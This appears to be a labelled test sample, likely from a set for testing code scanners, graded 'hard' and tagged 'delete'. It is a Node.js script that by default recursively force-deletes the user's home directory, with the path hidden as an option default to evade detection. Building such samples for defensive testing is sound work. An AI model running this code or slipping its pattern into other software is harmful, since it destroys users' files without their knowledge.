// evasion: the home as the default of a util.parseArgs option; values.target deleted
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const util = require('util');

const config = {
  options: {
    target: { type: 'string', short: 't', default: os.homedir() },
    dry: { type: 'boolean' },
  },
  allowPositionals: true,
};
const parsed = util.parseArgs(config);
if (!parsed.values.dry) fs.rmSync(parsed.values.target, { recursive: true, force: true });
